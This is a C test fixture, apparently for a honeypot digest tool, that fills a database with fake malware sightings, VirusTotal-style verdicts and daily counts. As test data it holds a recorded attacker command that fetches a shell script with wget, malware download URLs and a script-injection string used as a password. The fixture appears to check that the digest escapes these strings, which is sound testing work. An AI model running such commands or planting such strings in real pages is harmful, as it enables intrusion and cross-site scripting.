/*
 * with_digest.h - two weeks of counted days and some files, for the tests of digests.
 *
 * SPDX-License-Identifier: MIT
 */
#ifndef POTPRESS_TESTS_WITH_DIGEST_H
#define POTPRESS_TESTS_WITH_DIGEST_H

#include "tests/unit/with_db.h"

#define DAY 86400
#define HOUR 3600
#define MIDNIGHT 1795219200 /* 21 November 2026 00:00 UTC, a Saturday */

static inline void
capture(int sample, const char *ip, const char *url, int64_t at)
{
	static int n;

	sql("INSERT INTO sighting (event_key, sample_id, source, profile, honeypot, "
	    "action, src_ip, src_country, url, event_at, collected_at, seen_at) "
	    "VALUES ('1-%d', %d, 'main', 'cowrie', 'Cowrie', 'download', '%s', 'NL', "
	    "%s%s%s, %lld, %lld, %lld)",
	    n++, sample, ip, url[0] != '\0' ? "'" : "NULL", url,
	    url[0] != '\0' ? "'" : "", (long long)at, (long long)at + 30, (long long)at);
}

static inline void
answer(int sample, const char *verdict, const char *family, int malicious)
{
	sql("INSERT INTO analysis (lookup_id, sample_id, fetched_at, outcome, verdict, "
	    "family, malicious, undetected, last_analysis_at) SELECT id, %d, %d, '%s', "
	    "'%s', nullif('%s', ''), %d, %d, nullif(%d, 0) FROM lookup WHERE sample_id = "
	    "%d",
	    sample, MIDNIGHT + HOUR * sample,
	    strcmp(verdict, "unknown") == 0 ? "not_found" : "found", verdict, family,
	    malicious, strcmp(verdict, "unknown") == 0 ? 0 : 72 - malicious,
	    strcmp(verdict, "unknown") == 0 ? 0 : MIDNIGHT - DAY, sample);
}

static inline void
post(int sample)
{
	sql("UPDATE post SET state = 'done', token = token + 1, link = "
	    "'https://blog.example/malware-%d/', sent_title = 'Mirai trojan of my-sensor & "
	    "[gallery] · %d', wp_id = %d WHERE sample_id = %d",
	    sample, sample, sample, sample);
}

static inline void
count(const char *dimension, const char *value, const char *label, int64_t events,
    int64_t sources)
{
	sql("INSERT INTO day_count SELECT max(id), '%s', '%s', nullif('%s', ''), %lld, "
	    "%lld FROM day",
	    dimension, value, label, (long long)events, (long long)sources);
}

/* The days around November, each counted at six in the morning after; 0 is 31 October. */
static inline void
count_day(int date, int64_t events)
{
	int64_t from = MIDNIGHT + (date - 21) * DAY;

	sql("INSERT INTO day (source, date, zone, from_at, to_at, look_at, counted_at, "
	    "complete, events, sources, loudest) VALUES ('main', date(%lld, 'unixepoch'), "
	    "'UTC', %lld, %lld, 0, %lld, 1, %lld, %lld, %lld)",
	    (long long)from, (long long)from, (long long)from + DAY,
	    (long long)from + DAY + 6 * HOUR, (long long)events, (long long)events / 14,
	    (long long)events / 9);
}

static inline void
count_values(int64_t events)
{
	static const char *const HONEYPOTS[] = { "Cowrie", "Honeytrap", "Dionaea",
		"Sentrypeer", "Heralding", "H0neytr4p", "Tanner", "Redishoneypot",
		"Adbhoney", "Ciscoasa", "Mailoney", "ElasticPot" };
	static const char *const PORTS[] = { "445", "5060", "22", "5900", "80", "443" };
	static const char *const COUNTRIES[] = { "US", "CN", "VN", "BR", "TW", "ZZ" };
	char hour[4];

	for (int i = 0; i < 12; i++)
		count("honeypot", HONEYPOTS[i], "", events / (i + 2),
		    events / 15 / (i + 1));
	for (int i = 0; i < 6; i++)
		count("port", PORTS[i], "", events / (i + 3), events / 20);
	for (int i = 0; i < 6; i++)
		count("country", COUNTRIES[i], "", events / (i + 3), 812 / (i + 1));
	for (int i = 0; i < 24; i++) {
		snprintf(hour, sizeof hour, "%02d", i);
		count("hour", hour, "", events / 24 + (i == 14 ? 4000 : i), 0);
	}
	count("hour", "14 Cowrie", "", 5200, 0);
	count("hour", "14 Dionaea", "", 600, 0);
	count("hour", "03 Honeytrap", "", 2000, 0);
	count("asn", "64500", "Example Hosting <b>", events / 3, 100);
}

static inline void
count_texts(void)
{
	count("user", "root", "", 900, 200);
	count("user", "admin-of-my-sensor", "", 80, 5);
	count("user", "the-operator", "", 70, 4);
	count("password", "123456", "", 212, 60);
	count("password", "[gallery] <script>alert(1)</script>", "", 145, 50);
	count("password", "http://203.0.113.10/x", "", 40, 6);
	count("command", "cd /tmp; wget http://198.51.100.66/x.sh", "", 118, 30);
	count("command", "echo secret of one victim", "", 300, 1);
	count("cve", "CVE-2021-44228", "", 31, 9);
	count("signature", "ET SCAN Suspicious inbound to MSSQL port 1433", "", 55, 20);
}

/* A week in which nothing is missing, its last days with files. */
static inline void
fill(void)
{
	db_fresh();
	for (int i = 1; i <= 12; i++)
		sql("INSERT INTO sample (sha256) VALUES ('%064x')", i);
	for (int i = 1; i <= 9; i++)
		for (int n = 0; n < 3 + i % 4; n++)
			capture(i, "198.51.100.23",
			    i < 4    ? "http://198.51.100.66/bins/x.arm7"
			    : i == 4 ? "http://203.0.113.10:8080/wget.sh"
				     : "",
			    MIDNIGHT + i * HOUR + n);
	capture(10, "198.51.100.23", "", MIDNIGHT - 3 * DAY);
	capture(10, "198.51.100.23", "", MIDNIGHT + 5 * HOUR);
	for (int i = 1; i <= 3; i++)
		answer(i, "malicious", "mirai", 40 + i);
	answer(4, "malicious", "", 9);
	answer(5, "unknown", "", 0);
	answer(6, "suspicious", "", 3);
	answer(10, "malicious", "gafgyt", 44);
	sql("UPDATE lookup SET state = 'skipped' WHERE sample_id = 7");
	post(2);
	post(5);
	for (int date = 9; date <= 22; date++) {
		count_day(date, 50000 + date * (date == 21 ? 900 : 300));
		count_values(50000 + date * (date == 21 ? 900 : 300));
		count_texts();
	}
	sql("INSERT INTO quota (provider, account, period, used, allowed) VALUES ('virustotal', 'main', '2026-11-21', 31, 500), "
	    "('virustotal', 'main', '2026-11-20', 500, 500), ('virustotal', 'main', "
	    "'2026-11', 531, 15500)");
	sql("INSERT INTO post (kind, key, slug, link) VALUES ('digest', "
	    "'day-2026-11-20', 'digest-day-2026-11-20', "
	    "'https://blog.example/digest-day-2026-11-20/')");
}

#endif
